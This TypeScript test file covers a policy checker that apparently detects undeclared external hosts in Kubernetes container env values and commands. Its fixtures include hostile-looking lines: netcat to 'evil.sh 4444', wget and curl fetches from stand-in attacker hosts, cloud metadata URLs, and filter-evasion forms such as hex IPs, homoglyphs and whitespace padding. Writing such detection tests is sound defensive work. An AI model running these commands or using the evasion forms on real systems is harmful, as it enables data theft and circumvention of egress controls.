import { expect } from 'chai';
import { compileHostSettings, findExternalHosts, hostMatches, normalizeHost } from '../../src/policy/hosts.ts';
import type { ScannedText } from '../../src/policy/types.ts';

const settings = compileHostSettings({ clusterDomain: 'cluster.local', internalCIDRs: ['10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16', 'fc00::/7'] });
const SERVICES = new Set(['shop/redis', 'payments/api', 'com/attacker']);
const NAMESPACES = new Set(['shop', 'payments', 'com']);
const ctx = { hasNamespace: (name: string) => NAMESPACES.has(name), hasService: (ns: string, name: string) => SERVICES.has(`${ns}/${name}`) };

const env = (value: string, name = 'X'): ScannedText[] => [{ field: 'env', index: 0, envName: name, value, path: 'env[0].value' }];
const argv = (...words: string[]): ScannedText[] => words.map((value, index) => ({ field: 'args', index, value, path: `args[${index}]` }));
/** `sh -c SCRIPT` as command[0..2]. */
const shScript = (script: string): ScannedText[] => ['sh', '-c', script].map((value, index) => ({ field: 'command', index, value, path: `command[${index}]` }));
/** Hosts found in a position that says they are hosts (judged); shapes are left out. */
const hosts = (texts: ScannedText[]) => findExternalHosts(texts, settings, ctx).filter((f) => !f.shape).map((f) => (f.port ? `${f.host}:${f.port}` : f.host));
/** Words that only look like hosts (warned about, never judged). */
const shapes = (texts: ScannedText[]) => findExternalHosts(texts, settings, ctx).filter((f) => f.shape).map((f) => (f.port ? `${f.host}:${f.port}` : f.host));

const positives: [string, ScannedText[], string[]][] = [
  ['an https URL', env('https://api.stripe.com/v1'), ['api.stripe.com']],
  ['a URL with a port', env('https://api.example.com:8443/x'), ['api.example.com:8443']],
  ['a postgres URL with userinfo', env('postgres://user:pw@db.example.com:5432/app'), ['db.example.com:5432']],
  ['a JDBC URL', env('jdbc:postgresql://db.example.com/app'), ['db.example.com']],
  ['a mongodb+srv URL', env('mongodb+srv://cluster0.abcde.mongodb.net/test'), ['cluster0.abcde.mongodb.net']],
  ['a redis URL', env('rediss://cache.example.org:6380'), ['cache.example.org:6380']],
  ['an amqps URL', env('amqps://mq.example.com/vhost'), ['mq.example.com']],
  ['a bare host name in an env value', env('db.example.com', 'DB_HOST'), ['db.example.com']],
  ['host:port under an address name', env('db.example.com:5432', 'DB_ADDR'), ['db.example.com:5432']],
  ['an IPv4 literal under a server name', env('8.8.8.8', 'DNS_SERVER'), ['8.8.8.8']],
  ['an IPv4 literal with port', env('8.8.4.4:53', 'DNS_SERVER'), ['8.8.4.4:53']],
  ['an IPv6 literal', env('2001:4860:4860::8888', 'UPSTREAM_HOST'), ['2001:4860:4860::8888']],
  ['a bracketed IPv6 with port', env('[2606:4700::1]:443', 'UPSTREAM_HOST'), ['2606:4700::1:443']],
  ['an IPv6 URL', env('http://[2606:4700::2]:8080/'), ['2606:4700::2:8080']],
  ['--host=name', argv('--host=db.example.com'), ['db.example.com']],
  ['--host name', argv('--host', 'db.example.com'), ['db.example.com']],
  ['psql -h name', argv('psql', '-h', 'db.example.com'), ['db.example.com']],
  ['mysql -hNAME glued', argv('mysql', '-hdb.example.com'), ['db.example.com']],
  ['a curl in sh -c with && and psql -h', shScript('curl -s https://x.example.com/health && psql -h db.example.net'), ['x.example.com', 'db.example.net']],
  ['a comma-separated broker list', env('b1.example.com:9092,b2.example.com:9092', 'KAFKA_BROKERS'), ['b1.example.com:9092', 'b2.example.com:9092']],
  ['an Elasticsearch hosts list with URLs', env('https://es1.example.com:9200,https://es2.example.com:9200'), ['es1.example.com:9200', 'es2.example.com:9200']],
  ['an ADO.NET Server=tcp:host,port', env('Server=tcp:sql.example.net,1433;Database=app'), ['sql.example.net']],
  ['a libpq keyword string', env('host=db.example.com port=5432 dbname=app'), ['db.example.com']],
  ['a name under a two-level public suffix', env('api.example.co.uk', 'API_HOST'), ['api.example.co.uk']],
  ['an upper-case name inside a URL', env('https://API.Example.COM/'), ['api.example.com']],
  ['a trailing-dot FQDN', env('db.example.com.', 'DB_HOST'), ['db.example.com']],
  // Issue 10: a URL-named variable takes host/path without a scheme.
  ['host/path under a URL-named variable', env('api.example.com/v1', 'API_BASE_URL'), ['api.example.com']],
  ['host:port/path under an ENDPOINT-named variable', env('ingest.example.com:443/v2/logs', 'LOG_ENDPOINT'), ['ingest.example.com:443']],
  ['a socat tcp-connect address', argv('socat', 'tcp-listen:5432,fork', 'tcp-connect:db.partner-example.com:5432'), ['db.partner-example.com']],
  ['an openssl-connect address', argv('socat', '-', 'openssl-connect:db.partner-example.com:5432'), ['db.partner-example.com']],
  ['a host after a comment line is still a host', shScript('# probe\ncurl https://x.example.com/health'), ['x.example.com']],
  ['redis.mystore.shop: a .shop TLD, not a namespace', env('redis.mystore.shop', 'REDIS_HOST'), ['redis.mystore.shop']],
  ['a public IP outside internal CIDRs', env('172.32.0.1', 'DB_HOST'), ['172.32.0.1']],
  ['a .dev host in a URL', env('https://myapp.dev/x'), ['myapp.dev']],
  // Issue 14: forms a determined tenant uses, which curl, Node and glibc all resolve.
  ['a decimal IPv4 in a URL', env('http://134744072/'), ['8.8.8.8']],
  ['a hex IPv4 with a port', env('0x08080808:53', 'DNS_SERVER'), ['8.8.8.8:53']],
  ['dotted hex', env('http://0x8.0x8.0x8.0x8/'), ['8.8.8.8']],
  ['dotted octal', env('010.010.010.010', 'DNS_SERVER'), ['8.8.8.8']],
  ['a two-byte tail in a URL', env('http://8.8.2056/'), ['8.8.8.8']],
  ['the metadata address', env('http://169.254.169.254/latest/meta-data/'), ['169.254.169.254']],
  ['the metadata address in hex', env('http://0xa9fea9fe/'), ['169.254.169.254']],
  ['the GCE metadata name', env('http://metadata.google.internal/computeMetadata/v1/'), ['metadata.google.internal']],
  ['Alibaba Cloud metadata (inside 100.64/10)', env('http://100.100.100.200/latest/meta-data'), ['100.100.100.200']],
  ['an upper-case host under a host-named variable', env('Evil-Example.com', 'DB_HOST'), ['evil-example.com']],
  ['a Java-root-looking host under a host-named variable', env('de.evil-example.com', 'API_ENDPOINT'), ['de.evil-example.com']],
  ['a file-extension TLD after nc', argv('nc', 'evil.sh', '4444'), ['evil.sh']],
  ['ssh user@host', argv('ssh', 'tunnel@evil-example.com'), ['evil-example.com']],
  ['git user@host:path', argv('git', 'clone', 'git@evil-example.com:org/repo.git'), ['evil-example.com']],
  ['scp user@host:', argv('scp', 'backup.tar', 'u@evil-example.com:'), ['evil-example.com']],
  ['an Oracle thin JDBC URL', env('jdbc:oracle:thin:@evil-example.com:1521:orcl'), ['evil-example.com:1521']],
  ['an Oracle thin JDBC URL with //', env('jdbc:oracle:thin:@//evil-example.com:1521/svc'), ['evil-example.com:1521']],
  ['curl host/path without a scheme', argv('curl', '-fsS', 'evil-example.com/install'), ['evil-example.com']],
  ['wget in a script', argv('sh', '-c', 'wget -q evil-example.com/x.tgz -O /tmp/x.tgz'), ['evil-example.com']],
  // Parsed as Node's WHATWG URL parser and curl parse them.
  ['a backslash ending the authority', env('http://evil-example.com\\@declared.example.com/'), ['evil-example.com']],
  ['http: with backslashes', env('http:\\\\evil-example.com\\x'), ['evil-example.com']],
  ['http: with no slashes', argv('--upstream', 'http:evil-example.com/x'), ['evil-example.com']],
  ['a percent-encoded host', env('https://%65vil-example.com/'), ['evil-example.com']],
  ['an ideographic full stop', env('https://evil-example\u3002com/'), ['evil-example.com']],
  ['a fullwidth full stop', env('evil-example\uff0ecom', 'API_HOST'), ['evil-example.com']],
  ['an IDN host', env('https://ex\u00e4mple.com/'), ['xn--exmple-cua.com']],
  ['a Cyrillic homoglyph', env('https://\u0435vil-example.com/'), ['xn--vil-example-nkj.com']],
];

const negatives: [string, ScannedText[]][] = [
  ['a path without a host under a URL-named variable', env('/v1/items', 'API_BASE_URL')],
  ['a dotted flag name (.data is a TLD)', argv('--path.udev.data=/host/root/run/udev/data')],
  ['a documentation-range address (RFC 5737)', env('192.0.2.1', 'DNS_SERVER')],
  ['a documentation-range IPv6 address (RFC 3849)', env('2001:db8::1', 'DNS_SERVER')],
  ['a URL in a shell comment', shScript('# see https://github.com/org/repo/issues/9625\nexec app')],
  ['a URL in a comment after a command', shScript('exec app # https://docs.example.com/app')],
  ['a single-label Service name', env('external-db')],
  ['svc.namespace for a known namespace', env('redis.shop')],
  ['svc.ns.svc', env('redis.shop.svc')],
  ['a cluster.local FQDN', env('redis.shop.svc.cluster.local:6379')],
  ['a URL to a cluster Service', env('http://api.payments.svc:8080/v1')],
  ['localhost', env('http://localhost:8080')],
  ['a .localhost name', env('app.localhost')],
  ['loopback', env('127.0.0.1:5432')],
  ['IPv6 loopback', env('[::1]:80')],
  ['0.0.0.0 bind address', argv('--bind=0.0.0.0:8080')],
  ['an internal CIDR address', env('10.1.2.3')],
  ['an RFC 1918 address', env('192.168.1.10:3306')],
  ['a file name entrypoint.sh', argv('entrypoint.sh')],
  ['a file name manage.py', argv('python', 'manage.py', 'migrate')],
  ['application.properties', env('application.properties')],
  ['config.yaml', argv('--config', 'config.yaml')],
  ['server.jar', argv('java', '-jar', 'server.jar')],
  ['a path to a script', argv('/app/run.sh')],
  ['a relative path', argv('./manage.py')],
  ['a Java class name', argv('com.example.Main')],
  ['a Java package', env('org.springframework.boot')],
  ['a -D system property', argv('-Dspring.profiles.active=prod')],
  ['a version string', env('1.2.3')],
  ['a v-prefixed version', env('v2.0.1')],
  ['a decimal', env('0.75')],
  ['an e-mail address', env('ops@example.com')],
  ['an e-mail address as an argument', argv('certbot', '--email', 'ops@example.com')],
  ['a hex number outside a host position', argv('--seed', '0xdeadbeef')],
  ['a three-part version outside a URL', argv('--version', '8.8.2056')],
  ['curl writing to a file', argv('curl', '-o', 'install.sh', 'https://get.internal.example/')],
  ['an upper-case word outside a host position', env('Config.Value')],
  ['an image reference', env('ghcr.io/org/app:1.0')],
  ['an image reference with digest', env('registry.example.com/team/app@sha256:abc')],
  ['a short image tag', env('nginx:1.25')],
  ['a Kubernetes label key', env('app.kubernetes.io/name')],
  ['a $(VAR) host in a URL', env('https://$(API_HOST)/v1')],
  ['a ${VAR} host', env('${DB_HOST}:5432')],
  ['a .local mDNS name', env('printer.local')],
  ['a .internal name', env('db.corp.internal')],
  ['a private suffix such as .consul', env('vault.service.consul:8200')],
  ['a .test name', env('https://api.example.test')],
  ['a log level', env('info')],
  ['a duration', env('30s')],
  ['a sentence with no host', env('hello world.')],
  ['a host flag to a single-label service', argv('--host', 'postgres')],
  ['a property key with camelCase', env('logging.level.rootLogger')],
];

/**
 * Issue 20: what only looks like a host, in no position that says it is one (a variable whose
 * name says nothing, a plain argument): found as a shape, never judged.
 */
const shapesOnly: [string, ScannedText[], string[]][] = [
  ['host:port under a name that says nothing', env('db.example.com:5432'), ['db.example.com:5432']],
  ['an IPv4 literal under a name that says nothing', env('8.8.8.8'), ['8.8.8.8']],
  ['a broker list under a name that says nothing', env('b1.example.com:9092,b2.example.com:9092'), ['b1.example.com:9092', 'b2.example.com:9092']],
  ['a bare name as a plain argument', argv('app', 'db.example.com'), ['db.example.com']],
  ['a hex IPv4 as a plain argument', argv('app', '0x08080808:53'), ['8.8.8.8:53']],
];

describe('undeclared-external-host: finding external hosts', () => {
  describe('finds only a shape (a warning, never a denial)', () => {
    for (const [what, texts, expected] of shapesOnly) {
      it(what, () => {
        expect(hosts(texts)).to.deep.equal([]);
        expect(shapes(texts)).to.deep.equal(expected);
      });
    }
  });
  describe('finds', () => {
    for (const [what, texts, expected] of positives) {
      it(what, () => { expect(hosts(texts)).to.deep.equal(expected); });
    }
  });
  describe('leaves alone', () => {
    for (const [what, texts] of negatives) {
      it(what, () => { expect(hosts(texts)).to.deep.equal([]); });
    }
  });

  it('reports each host once per path, with the path of the text it is in', () => {
    const found = findExternalHosts([...env('https://a.example.com https://a.example.com'), ...argv('x', 'https://a.example.com')], settings, ctx);
    expect(found.map((f) => f.path)).to.deep.equal(['env[0].value', 'args[1]']);
  });

  it('treats name.namespace as internal only when that Service exists: a namespace is not a TLD for everyone', () => {
    expect(findExternalHosts(env('redis.shop'), settings, { hasNamespace: (name: string) => name === 'shop', hasService: () => false }).map((f) => f.host)).to.deep.equal(['redis.shop']);
    // Namespace `com` exists and holds Service `attacker`; attacker-site.com is still the public internet.
    expect(hosts(env('https://attacker-site.com/x https://attacker.com/y https://cache.shop/z'))).to.deep.equal(['attacker-site.com', 'cache.shop']);
  });

  it('treats only a trailing svc label as the cluster suffix', () => {
    expect(hosts(env('https://svc.evil-example.com/x https://a.svc.evil-example.com/ https://db.shop.svc/'))).to.deep.equal(['svc.evil-example.com', 'a.svc.evil-example.com']);
  });

  it('honours a custom cluster domain', () => {
    const s = compileHostSettings({ clusterDomain: 'k8s.example.com', internalCIDRs: [] });
    expect(findExternalHosts(env('db.shop.k8s.example.com'), s, ctx)).to.deep.equal([]);
  });

  it('normalises host names', () => {
    expect(normalizeHost(' DB.Example.COM. ')).to.equal('db.example.com');
    expect(normalizeHost('[2606:4700::1]')).to.equal('2606:4700::1');
  });

  const matches: [string, string, boolean][] = [
    ['api.github.com', 'api.github.com', true],
    ['API.GitHub.com.', 'api.github.com', true],
    ['s3.amazonaws.com', '*.amazonaws.com', true],
    ['a.b.amazonaws.com', '*.amazonaws.com', true],
    ['amazonaws.com', '*.amazonaws.com', false],
    ['evilamazonaws.com', '*.amazonaws.com', false],
    ['8.8.8.8', '8.8.8.8', true],
    ['api.github.com', 'github.com', false],
  ];
  for (const [host, pattern, expected] of matches) {
    it(`allowedHosts ${pattern} ${expected ? 'matches' : 'does not match'} ${host}`, () => { expect(hostMatches(host, pattern)).to.equal(expected); });
  }

  it('rejects an invalid CIDR with a message naming it', () => {
    expect(() => compileHostSettings({ clusterDomain: 'cluster.local', internalCIDRs: ['10.0.0.0/40'] })).to.throw(/"10\.0\.0\.0\/40" is not a valid CIDR/);
    expect(() => compileHostSettings({ clusterDomain: 'cluster.local', internalCIDRs: ['nope/8'] })).to.throw(/nope\/8/);
  });
  it('reads a text whole: padding does not push a host out of sight', () => {
    const pad = ' '.repeat(70_000);
    expect(hosts(env(`${pad}postgres://u:p@db.evil-example.com/x`))).to.deep.equal(['db.evil-example.com']);
    expect(hosts(argv('sh', '-c', `${pad}curl https://exfil.evil-example.com/`))).to.deep.equal(['exfil.evil-example.com']);
  });
});
